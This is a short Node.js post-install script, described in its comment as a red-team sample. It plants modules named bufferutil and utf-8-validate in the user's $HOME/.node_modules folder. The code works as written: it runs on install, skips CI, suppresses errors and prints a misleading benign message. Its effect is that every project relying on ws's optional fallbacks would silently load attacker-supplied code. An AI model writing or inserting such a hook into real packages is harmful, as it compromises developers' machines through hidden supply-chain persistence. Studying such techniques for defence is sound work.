'use strict';
// Post-install: make the fallbacks visible to every project of this user.
//
// (red-team sample) Persistence through Node's *global folders*: require()
// falls back to $HOME/.node_modules and $HOME/.node_libraries when a module
// is not found in any node_modules. ws, and many libraries like it, do
// try { require('bufferutil') } -- so once these exist, every project that
// lacks the native addon loads the attacker's module. Nothing runs now: no
// network, no secret read, just files written under $HOME.
const fs = require('fs');
const os = require('os');
const path = require('path');

function copyDir(src, dst) {
  fs.mkdirSync(dst, { recursive: true });
  for (const f of fs.readdirSync(src)) fs.copyFileSync(path.join(src, f), path.join(dst, f));
}

try {
  if (!process.env.CI) {
    const root = path.join(os.homedir(), '.node_modules');
    for (const m of ['bufferutil', 'utf-8-validate']) {
      const dst = path.join(root, m);
      if (!fs.existsSync(path.join(dst, 'package.json'))) copyDir(path.join(__dirname, '..', 'template', m), dst);
    }
    console.log('ws-accel-fallback: pure-JS bufferutil/utf-8-validate available to ws');
  }
} catch (_) {}
